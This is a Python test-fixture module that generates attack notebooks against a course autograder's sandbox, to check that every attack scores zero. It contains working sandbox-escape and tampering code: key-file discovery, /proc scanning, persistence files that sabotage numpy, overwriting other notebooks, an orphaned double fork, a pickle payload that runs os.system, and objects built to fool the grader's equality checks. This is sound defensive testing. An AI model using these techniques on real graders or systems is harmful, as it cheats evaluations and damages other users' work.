"""Notebooks that attack the grader itself, each built so that a *successful* attack shows
up as points: it keeps the solution's answers only if the attack worked, else it replaces
them by wrong ones. Every row here must therefore score 0, and honest rows graded in the
same run must score full marks.
"""

from __future__ import annotations

import re

import nbformat
from grade_fixtures import WRONG, answer_names, solution

MARK = "course-grade-sandbox-attack"

# each snippet sets `won` (True when the attack reached what it wanted)
ATTACKS = {
    # the answer keys: the exercises package, the solutions folder, the course's reference
    "keys": '''\
import importlib.util, os, course, course.notebook
won = importlib.util.find_spec("course._grading.exercises") is not None
root = os.path.dirname(os.path.dirname(course.__file__))
won |= os.path.exists(os.path.join(root, "solutions"))
try:                               # the reference itself, called for a value
    course.notebook.reference("diamond.dO_dw1")(I=1.0, w1=.5, w2=.5, w3=.5, w4=.5, w5=.5)
    won = True
except Exception:
    pass
''',
    # the grader's processes, its command line, its key material, the other kernels
    "proc": '''\
import os
won = False
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        won |= b"course\\x00grade" in cmd or b"pytest" in cmd
won |= len([p for p in os.listdir("/proc") if p.isdigit()]) > 30
''',
    # persistence: a .pth in site-packages, a .pyc in the course, a startup file in HOME
    "persist": f'''\
import os, site, course, numpy
won = False
targets = [os.path.join(d, "zz_{MARK}.pth") for d in site.getsitepackages()]
targets += [os.path.join(os.path.dirname(course.__file__), "nn", "__pycache__",
                         "networks.cpython-311.pyc"),
            os.path.join(os.path.dirname(numpy.__file__), "{MARK}.py"),
            os.path.expanduser("~/.ipython/profile_default/startup/00-{MARK}.py"),
            "/root/.ipython/profile_default/startup/00-{MARK}.py"]
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, "a") as fh:
            fh.write("import numpy; numpy.exp = lambda x: 0 * x\\n")
        won |= not t.startswith(os.path.expanduser("~"))
    except OSError:
        pass
''',
    # other submissions: overwrite every notebook it can see
    "overwrite": '''\
import glob
won = False
places = ("/box", "/tmp", "/home", "/work", "/root", "/srv", "/mnt", "/var", "/opt")
for path in [p for top in places for p in glob.glob(top + "/**/*.ipynb", recursive=True)]:
    try:
        with open(path, "w") as fh:
            fh.write("{}")
        won = True
    except OSError:
        pass
''',
    # processes that outlive the sandbox: a double fork into a new session
    "forkchain": f'''\
import os, subprocess, sys
code = "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(900)  # {MARK}"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
won = False
''',
    # code that runs when the answers are unpickled, and leaves a mark on the grader's disk
    "unpickle": f'''\
import os
class _Mark:
    def __reduce__(self):
        return (os.system, ("touch /tmp/{MARK}-unpickled; touch /root/{MARK}-unpickled",))
won = False
''',
    # the network
    "network": '''\
import socket
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    won = True
except OSError:
    won = False
''',
}
# the extra lines of an attack, run after `won` is known
AFTER = {
    "unpickle": "{first}.mark = _Mark()\n",
}

# answers equal to anything: __eq__ always True, a float() and an array() that lie
EQ_ALWAYS_TRUE = '''\
class _Liar:
    def __eq__(self, other): return True
    def __float__(self): return 0.0014291881022
    def __array__(self, *a, **k):
        import numpy as np; return np.array(0.0014291881022)
def _lie(*args, **kwargs):
    return _Liar()
{assign} = _lie
'''

# the course's reference reached through a trampoline and a module attribute
TRAMPOLINE = '''\
import functools, numpy as np
import course.nn.networks as nets
_grad = np.vectorize(lambda I, w1, w2, w3, w4, w5:
                     getattr(nets, "DiamondNet")(w1=w1, w2=w2, w3=w3, w4=w4, w5=w5)
                     .gradient(I)["{param}"])
_via = functools.partial(lambda f, *a: f(*a), _grad)
def {name}(I, w1, w2, w3, w4, w5):
    return _via(I, w1, w2, w3, w4, w5)
'''


def attack_notebook(kind: str):
    """The solution, plus a last cell that keeps its answers only if the attack won."""
    nb = solution()
    names = answer_names()
    lose = "".join(WRONG.format(name=n).replace("\n", "\n    ").rstrip() + "\n    "
                   for n in names)
    after = AFTER.get(kind, "").format(first=names[0])
    nb.cells.append(nbformat.v4.new_code_cell(
        ATTACKS[kind] + f"if not won:\n    {lose.rstrip()}\n" + after))
    return nb


def derivative_names() -> list[str]:
    """The answers that are derivatives of the diamond (dO_dw4, ..., dL_dw1): the ones the
    eq and trampoline attacks replace; the others (the self-test's letters and numbers)
    are made wrong in those notebooks, so that a total of 0 still means every attack lost."""
    return [n for n in answer_names() if re.fullmatch(r"d[OL]_d[wb]\d", n)]


def _others_wrong(nb):
    others = [n for n in answer_names() if n not in derivative_names()]
    nb.cells.append(nbformat.v4.new_code_cell("".join(WRONG.format(name=n) for n in others)))
    return nb


def attack_notebooks() -> dict:
    names = derivative_names()
    notebooks = {f"a_{kind}.ipynb": attack_notebook(kind) for kind in ATTACKS}
    eq = _others_wrong(solution())
    eq.cells.append(nbformat.v4.new_code_cell(EQ_ALWAYS_TRUE.format(assign=" = ".join(names))))
    notebooks["a_eq.ipynb"] = eq
    tramp = _others_wrong(solution())
    for name in names:
        param = re.search(r"d([wb]\d)", name).group(1)
        tramp.cells.append(nbformat.v4.new_code_cell(TRAMPOLINE.format(name=name,
                                                                       param=param)))
    notebooks["a_trampoline.ipynb"] = tramp
    notebooks["z_honest_1.ipynb"] = solution()
    notebooks["z_honest_2.ipynb"] = solution()
    return notebooks
